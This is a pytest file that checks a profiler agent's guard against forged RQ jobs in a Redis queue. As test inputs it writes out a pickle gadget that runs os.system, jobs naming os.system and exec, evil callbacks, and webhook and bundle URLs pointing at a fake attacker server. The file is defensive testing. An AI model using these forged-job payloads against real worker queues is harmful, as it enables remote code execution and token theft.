"""Forged jobs in a `gpu.*` queue, as a hostile agent host with Redis access would push them, against a
real `python -m profiler_agent work` process: each is refused (marked failed with the reason), nothing it
names is imported or called, nothing is fetched from the attacker's server, and the legit job queued
after them is still judged."""

import os
import pickle
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from redis import Redis
from rq import Queue
from rq.callbacks import Callback
from rq.job import Job
from rq.serializers import JSONSerializer

from profiler_agent.worker.job_guard import JUDGE_FUNCTION, GuardedJob, refusal_reason
from tests.agent.conftest import REPO
from tests.agent.fake_site import FakeSite, zipped

REDIS_URL = "redis://127.0.0.1:6379/15"
EVIL = "tests.agent.evil_callbacks.touch_marker"


class PickleBomb:
    """Unpickling it runs a shell command: what a pickled job can do to a worker that unpickles."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}.unpickled",)


@pytest.fixture
def sites():
    site, attacker = FakeSite(), FakeSite()
    yield site, attacker
    site.close()
    attacker.close()


@pytest.fixture
def connection():
    connection = Redis.from_url(REDIS_URL)
    prefix = f"gpu.guard-{uuid.uuid4().hex[:8]}"
    yield connection, prefix
    for key in connection.scan_iter(f"*{prefix}*"):
        connection.delete(key)
    for key in connection.scan_iter(f"rq:*:{prefix.removeprefix('gpu.')}*"):  # job hashes
        connection.delete(key)


def forge(connection, queue_name, job_prefix, attacker_url, marker):
    """Every kind of forged job; returns their ids by what they try."""
    as_json = Queue(queue_name, connection=connection, serializer=JSONSerializer)
    as_pickle = Queue(queue_name, connection=connection)  # RQ's default serializer: pickle
    judge = {"run_id": 31, "attempt": 1}
    jobs = {
        "pickle": as_pickle.enqueue("builtins.print", PickleBomb(marker), job_id=f"{job_prefix}-pickle"),
        "os.system": as_json.enqueue("os.system", kwargs={"command": f"touch {marker}.system"},
                                     job_id=f"{job_prefix}-system"),
        "builtins.exec": as_json.enqueue("builtins.exec", f"open('{marker}.exec', 'w')", job_id=f"{job_prefix}-exec"),
        "evil module": as_json.enqueue(EVIL, job_id=f"{job_prefix}-module"),
        "extra kwargs": as_json.enqueue(JUDGE_FUNCTION, kwargs={**judge, "bundle_url": f"{attacker_url}/bundles/x",
                                                                "options": {"atol": 1e9}},
                                        job_id=f"{job_prefix}-extra"),
        "positional": as_json.enqueue(JUDGE_FUNCTION, 31, 1, job_id=f"{job_prefix}-positional"),
        "string run id": as_json.enqueue(JUDGE_FUNCTION, kwargs={"run_id": "31", "attempt": 1},
                                         job_id=f"{job_prefix}-string"),
        "success callback": as_json.enqueue(JUDGE_FUNCTION, kwargs=judge, on_success=Callback(EVIL),
                                            job_id=f"{job_prefix}-onsuccess"),
        "failure callback": as_json.enqueue(JUDGE_FUNCTION, kwargs=judge, on_failure=Callback(EVIL),
                                            job_id=f"{job_prefix}-onfailure"),
        "stopped callback": as_json.enqueue(JUDGE_FUNCTION, kwargs=judge, on_stopped=Callback(EVIL),
                                            job_id=f"{job_prefix}-onstopped"),
    }
    webhook = as_json.enqueue(JUDGE_FUNCTION, kwargs=judge, job_id=f"{job_prefix}-webhook")
    connection.hset(webhook.key, "webhooks", f'[{{"url": "{attacker_url}/hook", "job_status": "failed", '
                                             f'"method": "GET", "headers": null, "timeout": 2}}]')
    jobs["webhook"] = webhook
    dependent = as_json.enqueue(JUDGE_FUNCTION, kwargs=judge, job_id=f"{job_prefix}-dependent")
    connection.hset(dependent.key, "dependency_ids", f'["{job_prefix}-system"]')
    jobs["dependency"] = dependent
    # A hash that does not parse: it must not stop the worker.
    connection.hset(f"rq:job:{job_prefix}-garbage", mapping={"data": b"[]", "created_at": "not a date",
                                                             "origin": queue_name, "status": "queued"})
    connection.rpush(f"rq:queue:{queue_name}", f"{job_prefix}-garbage")
    # An "abandoned" job in the started registry with a failure callback: RQ's clean-up would call it.
    abandoned = Job.create(JUDGE_FUNCTION, kwargs=judge, connection=connection, serializer=JSONSerializer,
                           id=f"{job_prefix}-abandoned", origin=queue_name, on_failure=Callback(EVIL))
    abandoned.set_status("started")
    abandoned.save()
    connection.zadd(f"rq:wip:{queue_name}", {f"{job_prefix}-abandoned:1": 1})
    return jobs


def test_forged_jobs_are_refused_and_the_legit_job_after_them_is_judged(sites, connection, tmp_path, build_cache):
    site, attacker = sites
    connection, queue_name = connection
    job_prefix = queue_name.removeprefix("gpu.")
    marker = tmp_path / "pwned"
    jobs = forge(connection, queue_name, job_prefix, attacker.url, marker)
    site.bundles = {"wrong.zip": zipped("relu-cpu-wrong")}
    site.run_bundles["40"] = "wrong.zip"
    legit = Queue(queue_name, connection=connection, serializer=JSONSerializer).enqueue(
        JUDGE_FUNCTION, kwargs={"run_id": 40, "attempt": 1}, job_id=f"{job_prefix}-legit", job_timeout=1200)

    completed = subprocess.run(
        [sys.executable, "-m", "profiler_agent", "work", "--site", site.url, "--token", "agent-token",
         "--queue", queue_name, "--redis", REDIS_URL, "--name", f"guard-{uuid.uuid4().hex[:6]}", "--device", "cpu",
         "--burst", "--heartbeat-seconds", "60", "--cache-dir", str(build_cache)],
        cwd=REPO, env={**os.environ, "EVIL_MARKER": str(marker)}, capture_output=True, text=True, timeout=600,
    )
    output = completed.stdout + completed.stderr
    assert completed.returncode == 0, output[-4000:]

    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("pwned")) == [], output[-4000:]
    assert attacker.requests == []  # no bundle fetched, no webhook sent: the token never left for it
    for what, job in jobs.items():
        job = Job.fetch(job.id, connection=connection, serializer=JSONSerializer)
        assert job.get_status() == "failed", what
        assert connection.hget(job.key, "exc_info").decode().startswith("refused by the profiler agent"), what
        assert f"REFUSED job {job.id}" in output, what
    assert "REFUSED job " + f"{job_prefix}-garbage" in output
    assert "payload is not JSON" in output and "names the function 'os.system'" in output
    # The abandoned job was failed by the clean-up without its callback; the legit job was judged.
    assert connection.zscore(f"rq:wip:{queue_name}", f"{job_prefix}-abandoned:1") is None
    assert legit.get_status(refresh=True) == "finished"
    assert set(site.posts("/start")) == {"40"}  # no refused job reached the site either
    assert site.posts("/result")["40"]["json"]["status"] == "wrong_answer"


def test_the_start_answer_may_not_send_the_agent_elsewhere(sites, connection, build_cache):
    site, attacker = sites
    connection, queue_name = connection
    site.start_answers["41"] = {"bundle_url": f"{attacker.url}/bundles/x", "result_url": f"{attacker.url}/r"}
    job = Queue(queue_name, connection=connection, serializer=JSONSerializer).enqueue(
        JUDGE_FUNCTION, kwargs={"run_id": 41, "attempt": 1}, job_timeout=600)
    completed = subprocess.run(
        [sys.executable, "-m", "profiler_agent", "work", "--site", site.url, "--token", "agent-token",
         "--queue", queue_name, "--redis", REDIS_URL, "--device", "cpu", "--burst", "--heartbeat-seconds", "60",
         "--cache-dir", str(build_cache)],
        cwd=REPO, capture_output=True, text=True, timeout=300,
    )
    assert completed.returncode == 0, completed.stderr[-4000:]
    assert attacker.requests == []
    assert job.get_status(refresh=True) == "failed"
    assert "not on this agent's site" in completed.stdout + completed.stderr


@pytest.mark.parametrize("kwargs, reason", [
    ({"run_id": 1, "attempt": 1}, None),
    ({"run_id": 1}, "not exactly run_id and attempt"),
    ({"run_id": True, "attempt": 1}, "positive integers"),
    ({"run_id": 1, "attempt": 0}, "positive integers"),
    ({"run_id": 1.0, "attempt": 1}, "positive integers"),
])
def test_refusal_reasons_of_judge_jobs(kwargs, reason):
    job = GuardedJob.create(JUDGE_FUNCTION, kwargs=kwargs, connection=Redis.from_url(REDIS_URL),
                            serializer=JSONSerializer)
    got = refusal_reason(job)
    assert got is None if reason is None else reason in got
    if reason is not None:
        with pytest.raises(RuntimeError, match="refused"):
            job.func  # noqa: B018  (RQ's own path to the function refuses too)


def test_a_pickle_is_never_unpickled(tmp_path):
    marker = tmp_path / "bomb"
    job = GuardedJob(connection=Redis.from_url(REDIS_URL), serializer=JSONSerializer)
    job.data = pickle.dumps(("builtins.print", None, [PickleBomb(marker)], {}))
    assert "not JSON" in refusal_reason(job)
    assert not Path(f"{marker}.unpickled").exists()
